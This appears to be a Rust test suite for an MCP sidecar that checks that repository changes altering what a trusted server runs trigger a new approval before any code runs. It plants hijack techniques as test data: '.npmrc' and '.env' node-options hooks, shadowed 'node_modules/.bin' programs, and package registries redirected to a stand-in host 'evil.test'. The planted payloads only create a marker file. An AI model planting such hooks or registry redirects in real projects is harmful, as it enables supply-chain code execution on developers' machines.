//! Trust covers the files of the repository that decide what runs, in whatever way the definition names them.

use std::path::PathBuf;

use mcp_sidecar::protocol::commands::ConfigReload;
use mcp_sidecar::protocol::types::{ApprovalKind, ServerStatus};
use serde_json::{Value, json};

use crate::support::commands::start;
use crate::support::harness::{Harness, settled};

/// A project whose servers are trusted as they are, and a file that appears if code runs that was not there then.
struct Trusted {
    harness: Harness,
    proof: PathBuf,
}

impl Trusted {
    async fn new(servers: &Value, files: &[&str]) -> Self {
        let mut harness = Harness::new(json!({}), json!({})).await;
        for file in files {
            harness.home.write(file, "exit\n");
        }
        let mut servers = servers.clone();
        for server in servers.as_object_mut().unwrap().values_mut() {
            server["autoStart"] = json!(false);
        }
        harness.home.write("mcp.json", &json!({ "servers": servers }).to_string());
        harness.run(ConfigReload {}).await;
        for name in servers.as_object().unwrap().keys() {
            assert!(!harness.trust(name).await.needs_trust);
        }
        let proof = harness.home.path("code-ran-that-was-not-shown");
        Self { harness, proof }
    }

    fn shell_script(&self) -> String {
        format!("touch {:?}\n", self.proof)
    }

    fn script(&self) -> String {
        format!("#!/usr/bin/env node\nrequire('fs').writeFileSync({:?}, '')\n", self.proof)
    }

    fn write_program(&self, name: &str, text: &str) {
        use std::os::unix::fs::PermissionsExt;
        let path = self.harness.home.write(name, text);
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    async fn started(&mut self, server: &str) -> ServerStatus {
        self.harness.run(start(server)).await;
        settled(&mut self.harness, server).await
    }

    /// Starts a server: it must wait for trust, and the new code must not have run.
    async fn assert_asks(&mut self, server: &str, change: &str) {
        let status = self.started(server).await;
        assert!(!self.proof.exists(), "`{server}` ran code that was not shown");
        assert!(status.needs_trust, "`{server}` does not ask: {status:?}");
        let difference = status.trust_diff.unwrap_or_default();
        assert!(difference.contains(change), "`{server}`: {difference}");
    }
}

#[tokio::test]
async fn a_replaced_script_asks_again_however_the_definition_names_it() {
    let shell = |arguments: &[&str]| json!({ "command": "sh", "args": arguments });
    let servers = json!({
        "data-ending": shell(&["server.txt"]),
        "separator": shell(&[".${/}separator.sh"]),
        "cwd-variable": shell(&["${cwd}/cwd.sh"]),
        "default": shell(&["${THIS_VARIABLE_IS_NOT_SET:-default.sh}"]),
        "basename": shell(&["../${workspaceFolderBasename}/basename.sh"]),
        "cd": shell(&["-c", "cd sub&&exec sh inner.sh"]),
        "tab": shell(&["-c", "exec\tsh\ttab.sh"]),
        // Neighbours.
        "variable": shell(&["${CARGO_PKG_NAME}"]),
        "wrapper": { "command": "env", "args": ["sh", "wrapped.log"] },
        "flag": shell(&["-x", "flag.md"]),
        "input": shell(&["-c", "sh<input.csv"]),
        "source": shell(&["-c", ". ./source.txt"]),
        "quoted": shell(&["-c", "sh 'with blank.sh'"]),
        "escaped": shell(&["-c", "sh with\\ escape.sh"]),
        "folder-flag": { "command": "env", "args": ["-C", "sub", "sh", "flagged.sh"] },
        "cwd": { "command": "sh", "args": ["in-cwd.sh"], "cwd": "${cwd}${/}sub" },
        "env-file": { "command": "sh", "args": ["-c", "exit"], "envFile": "${THIS_VARIABLE_IS_NOT_SET:-.env.test}" },
        "command": { "command": "${CARGO_PKG_NAME}.sh", "env": { "PATH": "${workspaceFolder}/sub:/usr/bin:/bin" } },
    });
    let files = [
        ("data-ending", "server.txt"),
        ("separator", "separator.sh"),
        ("cwd-variable", "cwd.sh"),
        ("default", "default.sh"),
        ("basename", "basename.sh"),
        ("cd", "sub/inner.sh"),
        ("tab", "tab.sh"),
        ("variable", "mcp-sidecar"),
        ("wrapper", "wrapped.log"),
        ("flag", "flag.md"),
        ("input", "input.csv"),
        ("source", "source.txt"),
        ("quoted", "with blank.sh"),
        ("escaped", "with escape.sh"),
        ("folder-flag", "sub/flagged.sh"),
        ("cwd", "sub/in-cwd.sh"),
        ("command", "sub/mcp-sidecar.sh"),
    ];
    let mut project = Trusted::new(&servers, &files.map(|(_, file)| file)).await;
    project.harness.home.write(".env.test", "NODE_OPTIONS=--require=./hook.js\n");
    project.assert_asks("env-file", "envFile content").await;
    for (server, file) in files {
        project.write_program(file, &format!("#!/bin/sh\n{}", project.shell_script()));
        project.assert_asks(server, &format!("content {file}")).await;
    }
}

#[tokio::test]
async fn modules_that_an_interpreter_finds_by_a_short_name_are_pinned() {
    let servers = json!({
        "no-ending": { "command": "node", "args": ["server"] },
        "index": { "command": "node", "args": ["./lib"] },
        "main": { "command": "node", "args": ["./package"] },
        "python": { "command": "python3", "args": ["folder"] },
        "require": { "command": "node", "args": ["--require", "./hook.txt", "late.txt"] },
    });
    let mut project = Trusted::new(&servers, &[]).await;
    let script = project.script();
    project.harness.home.write("package/package.json", &json!({ "main": "start.js" }).to_string());
    let python = format!("open({:?}, 'w')", project.proof);
    for (server, file, text) in [
        ("no-ending", "server.js", &script),
        ("index", "lib/index.js", &script),
        ("main", "package/start.js", &script),
        ("python", "folder/__main__.py", &python),
        ("require", "late.txt", &script),
    ] {
        project.harness.home.write(file, text);
        project.assert_asks(server, &format!("content {file}")).await;
    }
}

#[tokio::test]
async fn scripts_elsewhere_in_the_repository_are_pinned() {
    let servers = json!({ "mono": { "command": "sh", "args": ["../scripts/server.sh"] } });
    let mut project = Trusted::new(&servers, &["../.git/HEAD", "../scripts/server.sh"]).await;
    project.harness.home.write("../scripts/server.sh", &project.shell_script());
    project.assert_asks("mono", "content ../scripts/server.sh").await;

    // The same without a repository, such as an unpacked archive.
    let mut project = Trusted::new(&servers, &["../scripts/server.sh"]).await;
    project.harness.home.write("../scripts/server.sh", &project.shell_script());
    project.assert_asks("mono", "content ../scripts/server.sh").await;
}

#[tokio::test]
async fn a_script_that_changes_while_an_input_is_asked_for_does_not_run() {
    let mut harness = Harness::new(json!({}), json!({})).await;
    let proof = harness.home.path("code-ran-that-was-not-shown");
    harness.home.write("server.sh", "exit\n");
    let server = json!({ "command": "sh", "args": ["server.sh", "${input:name}"] });
    let config = json!({ "servers": { "late": server }, "inputs": [{ "id": "name" }] });
    harness.home.write("mcp.json", &config.to_string());
    harness.run(ConfigReload {}).await;
    harness.trust("late").await;
    let input = harness.approvals(ApprovalKind::Input, 1).await.remove(0);
    harness.home.write("server.sh", &format!("touch {proof:?}\n"));
    let answer = mcp_sidecar::protocol::commands::ApprovalResolve {
        content: Some(json!({ "value": "x" })),
        ..crate::support::commands::resolve(&input, "accept")
    };
    harness.run(answer).await;
    let question = harness.approvals(ApprovalKind::Trust, 1).await.remove(0);
    assert!(!proof.exists(), "the script ran after it was replaced");
    assert!(question.diff.unwrap().contains("content server.sh"));
}

#[tokio::test]
async fn a_package_runner_asks_again_when_the_repository_decides_what_it_runs() {
    let runner = |arguments: &[&str]| json!({ "command": "npx", "args": arguments });
    let servers = json!({
        "program": runner(&["--offline", "--yes", "planted-program"]),
        "package": runner(&["--offline", "--yes", "@planted/package"]),
        "own": runner(&["--offline", "--yes", "planted-own"]),
        "options": runner(&["--offline", "--yes", "anything"]),
        "script": { "command": "npm", "args": ["run", "planted-script"] },
        "shell": { "command": "sh", "args": ["-c", "exec npx --offline --yes planted-program"] },
    });
    let mut project = Trusted::new(&servers, &[]).await;
    let script = project.script();

    project.write_program("node_modules/.bin/planted-program", &script);
    project.assert_asks("program", "content node_modules/.bin/planted-program").await;
    project.assert_asks("shell", "content node_modules/.bin/planted-program").await;

    let package = json!({ "name": "@planted/package", "version": "1.0.0", "bin": { "package": "cli.js" } });
    project.harness.home.write("node_modules/@planted/package/package.json", &package.to_string());
    project.write_program("node_modules/@planted/package/cli.js", &script);
    project.assert_asks("package", "content node_modules/@planted/package/cli.js").await;

    project.write_program("own.js", &script);
    let package = json!({ "name": "repository", "version": "1.0.0", "bin": { "planted-own": "own.js" },
        "scripts": { "planted-script": format!("touch {:?}", project.proof) } });
    project.harness.home.write("package.json", &package.to_string());
    project.assert_asks("own", "content own.js").await;
    project.assert_asks("script", "scripts.planted-script").await;

    project.harness.home.write("hook.js", &script);
    project.harness.home.write(".npmrc", "node-options=--require ./hook.js\n");
    project.assert_asks("options", "node-options").await;
    let question = project.harness.approvals(ApprovalKind::Trust, 6).await;
    let question = question.iter().find(|question| question.server.as_str() == "options").unwrap();
    let warning = "warning   `.npmrc` in this project decides what `npx` runs: node-options = --require ./hook.js";
    assert!(question.detail.contains(warning), "{}", question.detail);
    assert!(question.detail.contains("runs `hook.js` from this project"), "{}", question.detail);
}

#[tokio::test]
async fn addresses_of_packages_are_shown_and_pinned_and_dependencies_are_not() {
    let servers = json!({
        "npx": { "command": "npx", "args": ["--offline", "-y", "@official/server@1.2.3"] },
        "uvx": { "command": "uvx", "args": ["official-server==1.2.3"] },
        "uv": { "command": "uv", "args": ["run", "server"] },
        "bunx": { "command": "bunx", "args": ["official-server"] },
        "yarn": { "command": "yarn", "args": ["dlx", "official-server"] },
        "pnpm": { "command": "pnpm", "args": ["dlx", "official-server"] },
        "deno": { "command": "deno", "args": ["run", "-A", "npm:official-server"] },
        "compose": { "command": "docker", "args": ["compose", "run", "server"] },
    });
    let mut project = Trusted::new(&servers, &[]).await;
    for (server, file, text, shown) in [
        ("npx", ".npmrc", "@official:registry=https://evil.test/\n", "@official:registry: https://evil.test/"),
        ("uvx", "uv.toml", "index-url = \"https://evil.test/\"\n", "index-url: https://evil.test/"),
        (
            "uv",
            "pyproject.toml",
            "[tool.uv]\nindex-url = \"https://evil.test/\"\n",
            "tool.uv.index-url: https://evil.test/",
        ),
        (
            "bunx",
            "bunfig.toml",
            "[install]\nregistry = \"https://evil.test/\"\n",
            "install.registry: https://evil.test/",
        ),
        ("yarn", ".yarnrc.yml", "yarnPath: .yarn/evil.cjs\n", "yarnPath: .yarn/evil.cjs"),
        (
            "pnpm",
            "pnpm-workspace.yaml",
            "registries:\n  default: https://evil.test/\n",
            "registries: default: https://evil.test/",
        ),
        ("deno", "deno.json", "{ \"imports\": { \"x\": \"https://evil.test/x.ts\" } }", "imports"),
        ("compose", "compose.yaml", "services: {}\n", "content compose.yaml"),
    ] {
        project.harness.home.write(file, text);
        project.assert_asks(server, shown).await;
    }

    // What decides nothing asks nothing.
    for server in ["npx", "uv", "pnpm"] {
        project.harness.trust(server).await;
    }
    project.harness.home.write("package.json", r#"{ "dependencies": { "left-pad": "1.0.0" } }"#);
    project.harness.home.write("node_modules/left-pad/package.json", r#"{ "name": "left-pad", "bin": "x.js" }"#);
    project.harness.home.write(".npmrc", "@official:registry=https://evil.test/\nsave-exact=true\nfund=false\n");
    let dependencies = "[project]\ndependencies = [\"httpx\"]\n[tool.uv]\nindex-url = \"https://evil.test/\"\n";
    project.harness.home.write("pyproject.toml", dependencies);
    project.harness.home.write("pnpm-workspace.yaml", "packages: [a]\nregistries:\n  default: https://evil.test/\n");
    for server in ["npx", "uv", "pnpm"] {
        let status = project.started(server).await;
        assert!(!status.needs_trust, "`{server}` asks: {:?}", status.trust_diff);
    }
}

#[tokio::test]
async fn code_that_other_files_of_the_repository_put_in_the_way_does_not_run() {
    let servers = json!({
        "carriage-return": { "command": "npx", "args": ["--offline", "--yes", "anything"] },
        "shadow": { "command": "npx", "args": ["--offline", "--yes", "installed"] },
        "above": { "command": "npm", "args": ["--offline", "run", "planted"] },
        "inline": { "command": "node", "args": ["-e", "require('./inline')"] },
        "module": { "command": "node", "args": ["-r", "planted-module", "inline.js"] },
        "find": { "command": "find", "args": [".", "-name", "found.txt", "-exec", "sh", "{}", ";"] },
    });
    let mut project = Trusted::new(&servers, &["found.txt"]).await;
    let (script, shell) = (project.script(), project.shell_script());

    project.harness.home.write("found.txt", &shell);
    project.assert_asks("find", "content found.txt").await;
    project.harness.home.write("inline.js", &script);
    project.assert_asks("inline", "content inline.js").await;
    project.harness.home.write("node_modules/planted-module/index.js", &script);
    project.assert_asks("module", "content node_modules/planted-module/index.js").await;

    project.write_program("node_modules/.bin/node", &format!("#!/bin/sh\n{shell}"));
    project.assert_asks("shadow", "content node_modules/.bin/node").await;
    std::fs::remove_file(project.harness.home.project().join("node_modules/.bin/node")).unwrap();

    project.harness.home.write("hook.js", &script);
    project.harness.home.write(".npmrc", "# nothing\rnode-options=--require ./hook.js\r");
    project.assert_asks("carriage-return", "node-options").await;
    std::fs::remove_file(project.harness.home.project().join(".npmrc")).unwrap();

    let package = json!({ "name": "above", "version": "1.0.0", "scripts": { "planted": shell.trim() } });
    project.harness.home.write("../package.json", &package.to_string());
    project.assert_asks("above", "../package.json scripts.planted").await;
}
